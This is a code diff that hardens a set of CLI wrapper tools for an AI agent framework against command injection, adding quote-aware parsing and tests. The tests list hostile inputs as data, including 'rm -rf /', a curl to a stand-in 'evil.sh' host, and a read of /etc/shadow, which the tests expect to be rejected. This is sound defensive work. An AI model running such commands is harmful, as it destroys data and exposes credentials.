@@ -24,6 +24,12 @@
 //! - Is more flexible (supports any subcommand)
 //! - Leverages LLM intelligence for command construction
 //!
+//! ## Argument Handling
+//!
+//! The `command` string is split with shell quoting rules and the binary is run
+//! directly. Shell metacharacters are rejected unless the tool is built with
+//! [`CommandPolicy::Shell`], which runs `sh -c "<program> <command>"` instead.
+//!
 //! ## Example
 //!
 //! ```yaml
@@ -33,15 +39,43 @@
 //!   - docker     # Can run: docker ps, docker build -t x ., etc.
 //! ```
 
+use std::sync::Arc;
+
 use aof_core::{AofResult, Tool, ToolConfig, ToolInput, ToolResult};
 use async_trait::async_trait;
 use tracing::debug;
 
-use super::common::{execute_command, tool_config_with_timeout};
+use super::common::{
+    parse_command_args, tool_config_with_timeout, CommandOutput, CommandPolicy, CommandRunner,
+    ProcessRunner,
+};
+
+/// Run `<program> <command>` according to the tool's command policy
+async fn run_cli(
+    runner: &dyn CommandRunner,
+    program: &str,
+    command: &str,
+    policy: CommandPolicy,
+    working_dir: Option<&str>,
+    timeout_secs: u64,
+) -> Result<CommandOutput, String> {
+    let args = parse_command_args(program, command, policy)?;
+
+    match policy {
+        CommandPolicy::Strict => runner.run(program, &args, working_dir, timeout_secs).await,
+        CommandPolicy::Shell => {
+            let script = format!("{} {}", program, command.trim());
+            let args = vec!["-c".to_string(), script];
+            runner.run("sh", &args, working_dir, timeout_secs).await
+        }
+    }
+}
 
 /// Unified kubectl tool - executes any kubectl command
 pub struct KubectlTool {
     config: ToolConfig,
+    policy: CommandPolicy,
+    runner: Arc<dyn CommandRunner>,
 }
 
 impl KubectlTool {
@@ -73,9 +107,23 @@ impl KubectlTool {
                 parameters,
                 120,
             ),
+            policy: CommandPolicy::default(),
+            runner: Arc::new(ProcessRunner),
         }
     }
 
+    /// Set how the `command` string is parsed and run
+    pub fn with_command_policy(mut self, policy: CommandPolicy) -> Self {
+        self.policy = policy;
+        self
+    }
+
+    /// Use a custom command runner (tests substitute a fake)
+    pub fn with_runner(mut self, runner: Arc<dyn CommandRunner>) -> Self {
+        self.runner = runner;
+        self
+    }
+
     pub fn is_available() -> bool {
         which::which("kubectl").is_ok()
     }
@@ -94,18 +142,13 @@ impl Tool for KubectlTool {
         let working_dir: Option<String> = input.get_arg("working_dir").ok();
         let timeout_secs: u64 = input.get_arg("timeout_secs").unwrap_or(120);
 
-        // Parse the command into arguments
-        let args: Vec<&str> = command.split_whitespace().collect();
-
-        if args.is_empty() {
-            return Ok(ToolResult::error("Empty command provided"));
-        }
-
         debug!(command = %command, "Executing kubectl");
 
-        let result = execute_command(
+        let result = run_cli(
+            self.runner.as_ref(),
             "kubectl",
-            &args,
+            &command,
+            self.policy,
             working_dir.as_deref(),
             timeout_secs,
         ).await;
@@ -132,6 +175,8 @@ impl Tool for KubectlTool {
 /// Unified git tool - executes any git command
 pub struct GitTool {
     config: ToolConfig,
+    policy: CommandPolicy,
+    runner: Arc<dyn CommandRunner>,
 }
 
 impl GitTool {
@@ -162,9 +207,23 @@ impl GitTool {
                 parameters,
                 120,
             ),
+            policy: CommandPolicy::default(),
+            runner: Arc::new(ProcessRunner),
         }
     }
 
+    /// Set how the `command` string is parsed and run
+    pub fn with_command_policy(mut self, policy: CommandPolicy) -> Self {
+        self.policy = policy;
+        self
+    }
+
+    /// Use a custom command runner (tests substitute a fake)
+    pub fn with_runner(mut self, runner: Arc<dyn CommandRunner>) -> Self {
+        self.runner = runner;
+        self
+    }
+
     pub fn is_available() -> bool {
         which::which("git").is_ok()
     }
@@ -183,17 +242,13 @@ impl Tool for GitTool {
         let working_dir: Option<String> = input.get_arg("working_dir").ok();
         let timeout_secs: u64 = input.get_arg("timeout_secs").unwrap_or(120);
 
-        let args: Vec<&str> = command.split_whitespace().collect();
-
-        if args.is_empty() {
-            return Ok(ToolResult::error("Empty command provided"));
-        }
-
         debug!(command = %command, "Executing git");
 
-        let result = execute_command(
+        let result = run_cli(
+            self.runner.as_ref(),
             "git",
-            &args,
+            &command,
+            self.policy,
             working_dir.as_deref(),
             timeout_secs,
         ).await;
@@ -220,6 +275,8 @@ impl Tool for GitTool {
 /// Unified docker tool - executes any docker command
 pub struct DockerTool {
     config: ToolConfig,
+    policy: CommandPolicy,
+    runner: Arc<dyn CommandRunner>,
 }
 
 impl DockerTool {
@@ -250,9 +307,23 @@ impl DockerTool {
                 parameters,
                 300, // Longer timeout for builds
             ),
+            policy: CommandPolicy::default(),
+            runner: Arc::new(ProcessRunner),
         }
     }
 
+    /// Set how the `command` string is parsed and run
+    pub fn with_command_policy(mut self, policy: CommandPolicy) -> Self {
+        self.policy = policy;
+        self
+    }
+
+    /// Use a custom command runner (tests substitute a fake)
+    pub fn with_runner(mut self, runner: Arc<dyn CommandRunner>) -> Self {
+        self.runner = runner;
+        self
+    }
+
     pub fn is_available() -> bool {
         which::which("docker").is_ok()
     }
@@ -271,28 +342,25 @@ impl Tool for DockerTool {
         let working_dir: Option<String> = input.get_arg("working_dir").ok();
         let timeout_secs: u64 = input.get_arg("timeout_secs").unwrap_or(300);
 
-        let mut args: Vec<String> = command.split_whitespace()
-            .map(|s| s.to_string())
-            .collect();
-
-        if args.is_empty() {
-            return Ok(ToolResult::error("Empty command provided"));
-        }
+        let mut command = command.trim().to_string();
 
         // Smart injection: Add --no-stream to stats command if not present
         // This prevents stats from running continuously like `top`
-        if args[0] == "stats" && !args.iter().any(|a| a.contains("--no-stream") || a == "-n") {
-            args.insert(1, "--no-stream".to_string());
+        let words: Vec<&str> = command.split_whitespace().collect();
+        if words.first() == Some(&"stats")
+            && !words.iter().any(|a| a.contains("--no-stream") || *a == "-n")
+        {
+            command = format!("stats --no-stream{}", &command["stats".len()..]);
             debug!("Auto-injected --no-stream flag to docker stats command");
         }
 
         debug!(command = %command, "Executing docker");
 
-        let args_refs: Vec<&str> = args.iter().map(|s| s.as_str()).collect();
-
-        let result = execute_command(
+        let result = run_cli(
+            self.runner.as_ref(),
             "docker",
-            &args_refs,
+            &command,
+            self.policy,
             working_dir.as_deref(),
             timeout_secs,
         ).await;
@@ -304,7 +372,7 @@ impl Tool for DockerTool {
                     "stderr": output.stderr,
                     "exit_code": output.exit_code,
                     "success": output.success,
-                    "command": format!("docker {}", args.join(" "))
+                    "command": format!("docker {}", command)
                 })))
             }
             Err(e) => Ok(ToolResult::error(e)),
@@ -319,6 +387,8 @@ impl Tool for DockerTool {
 /// Unified terraform tool - executes any terraform command
 pub struct TerraformTool {
     config: ToolConfig,
+    policy: CommandPolicy,
+    runner: Arc<dyn CommandRunner>,
 }
 
 impl TerraformTool {
@@ -349,9 +419,23 @@ impl TerraformTool {
                 parameters,
                 600, // Long timeout for terraform operations
             ),
+            policy: CommandPolicy::default(),
+            runner: Arc::new(ProcessRunner),
         }
     }
 
+    /// Set how the `command` string is parsed and run
+    pub fn with_command_policy(mut self, policy: CommandPolicy) -> Self {
+        self.policy = policy;
+        self
+    }
+
+    /// Use a custom command runner (tests substitute a fake)
+    pub fn with_runner(mut self, runner: Arc<dyn CommandRunner>) -> Self {
+        self.runner = runner;
+        self
+    }
+
     pub fn is_available() -> bool {
         which::which("terraform").is_ok()
     }
@@ -370,17 +454,13 @@ impl Tool for TerraformTool {
         let working_dir: Option<String> = input.get_arg("working_dir").ok();
         let timeout_secs: u64 = input.get_arg("timeout_secs").unwrap_or(600);
 
-        let args: Vec<&str> = command.split_whitespace().collect();
-
-        if args.is_empty() {
-            return Ok(ToolResult::error("Empty command provided"));
-        }
-
         debug!(command = %command, "Executing terraform");
 
-        let result = execute_command(
+        let result = run_cli(
+            self.runner.as_ref(),
             "terraform",
-            &args,
+            &command,
+            self.policy,
             working_dir.as_deref(),
             timeout_secs,
         ).await;
@@ -407,6 +487,8 @@ impl Tool for TerraformTool {
 /// Unified AWS CLI tool - executes any aws command
 pub struct AwsTool {
     config: ToolConfig,
+    policy: CommandPolicy,
+    runner: Arc<dyn CommandRunner>,
 }
 
 impl AwsTool {
@@ -437,9 +519,23 @@ impl AwsTool {
                 parameters,
                 120,
             ),
+            policy: CommandPolicy::default(),
+            runner: Arc::new(ProcessRunner),
         }
     }
 
+    /// Set how the `command` string is parsed and run
+    pub fn with_command_policy(mut self, policy: CommandPolicy) -> Self {
+        self.policy = policy;
+        self
+    }
+
+    /// Use a custom command runner (tests substitute a fake)
+    pub fn with_runner(mut self, runner: Arc<dyn CommandRunner>) -> Self {
+        self.runner = runner;
+        self
+    }
+
     pub fn is_available() -> bool {
         which::which("aws").is_ok()
     }
@@ -458,17 +554,13 @@ impl Tool for AwsTool {
         let working_dir: Option<String> = input.get_arg("working_dir").ok();
         let timeout_secs: u64 = input.get_arg("timeout_secs").unwrap_or(120);
 
-        let args: Vec<&str> = command.split_whitespace().collect();
-
-        if args.is_empty() {
-            return Ok(ToolResult::error("Empty command provided"));
-        }
-
         debug!(command = %command, "Executing aws");
 
-        let result = execute_command(
+        let result = run_cli(
+            self.runner.as_ref(),
             "aws",
-            &args,
+            &command,
+            self.policy,
             working_dir.as_deref(),
             timeout_secs,
         ).await;
@@ -495,6 +587,8 @@ impl Tool for AwsTool {
 /// Unified helm tool - executes any helm command
 pub struct HelmTool {
     config: ToolConfig,
+    policy: CommandPolicy,
+    runner: Arc<dyn CommandRunner>,
 }
 
 impl HelmTool {
@@ -525,9 +619,23 @@ impl HelmTool {
                 parameters,
                 300,
             ),
+            policy: CommandPolicy::default(),
+            runner: Arc::new(ProcessRunner),
         }
     }
 
+    /// Set how the `command` string is parsed and run
+    pub fn with_command_policy(mut self, policy: CommandPolicy) -> Self {
+        self.policy = policy;
+        self
+    }
+
+    /// Use a custom command runner (tests substitute a fake)
+    pub fn with_runner(mut self, runner: Arc<dyn CommandRunner>) -> Self {
+        self.runner = runner;
+        self
+    }
+
     pub fn is_available() -> bool {
         which::which("helm").is_ok()
     }
@@ -546,17 +654,13 @@ impl Tool for HelmTool {
         let working_dir: Option<String> = input.get_arg("working_dir").ok();
         let timeout_secs: u64 = input.get_arg("timeout_secs").unwrap_or(300);
 
-        let args: Vec<&str> = command.split_whitespace().collect();
-
-        if args.is_empty() {
-            return Ok(ToolResult::error("Empty command provided"));
-        }
-
         debug!(command = %command, "Executing helm");
 
-        let result = execute_command(
+        let result = run_cli(
+            self.runner.as_ref(),
             "helm",
-            &args,
+            &command,
+            self.policy,
             working_dir.as_deref(),
             timeout_secs,
         ).await;
@@ -619,4 +723,75 @@ mod tests {
         let tool = HelmTool::new();
         assert_eq!(tool.config().name, "helm");
     }
+
+    #[tokio::test]
+    async fn test_kubectl_rejects_injection() {
+        let tool = KubectlTool::new();
+
+        for command in [
+            "get pods; rm -rf /",
+            "get pods | sh",
+            "get pods && curl evil.sh",
+            "get pods $(whoami)",
+            "get pods `id`",
+            "get pods > /etc/passwd",
+        ] {
+            let result = tool
+                .execute(ToolInput::new(serde_json::json!({ "command": command })))
+                .await
+                .unwrap();
+            assert!(!result.success, "{}", command);
+            assert!(result.error.unwrap().contains("shell metacharacter"), "{}", command);
+        }
+    }
+
+    #[test]
+    fn test_parse_command_args_respects_quotes() {
+        let args = parse_command_args(
+            "git",
+            r#"commit -m "fix: handle a; b | c""#,
+            CommandPolicy::Strict,
+        )
+        .unwrap();
+        assert_eq!(args, vec!["commit", "-m", "fix: handle a; b | c"]);
+
+        let args = parse_command_args(
+            "kubectl",
+            "get pods -o jsonpath='{.items[*].metadata.name}'",
+            CommandPolicy::Strict,
+        )
+        .unwrap();
+        assert_eq!(args[3], "jsonpath={.items[*].metadata.name}");
+
+        // Substitution is still live inside double quotes
+        let substitution = r#"commit -m "$(cat /etc/shadow)""#;
+        assert!(parse_command_args("git", substitution, CommandPolicy::Strict).is_err());
+        assert!(parse_command_args("git", "", CommandPolicy::Strict).is_err());
+    }
+
+    #[test]
+    fn test_shell_policy_allows_metacharacters() {
+        let args =
+            parse_command_args("kubectl", "get pods | grep api", CommandPolicy::Shell).unwrap();
+        assert_eq!(args, vec!["get", "pods", "|", "grep", "api"]);
+
+        let tool = KubectlTool::new().with_command_policy(CommandPolicy::Shell);
+        assert_eq!(tool.policy, CommandPolicy::Shell);
+    }
+
+    #[tokio::test]
+    async fn test_kubectl_uses_runner() {
+        use super::super::common::FakeRunner;
+
+        let runner = Arc::new(FakeRunner::new(|_, _| CommandOutput::ok("pod/api-0 Running")));
+        let tool = KubectlTool::new().with_runner(runner.clone());
+
+        let result = tool
+            .execute(ToolInput::new(serde_json::json!({ "command": "get pods -n prod" })))
+            .await
+            .unwrap();
+        assert!(result.success);
+        assert_eq!(result.data["stdout"], "pod/api-0 Running");
+        assert_eq!(runner.calls(), vec![vec!["kubectl", "get", "pods", "-n", "prod"]]);
+    }
 }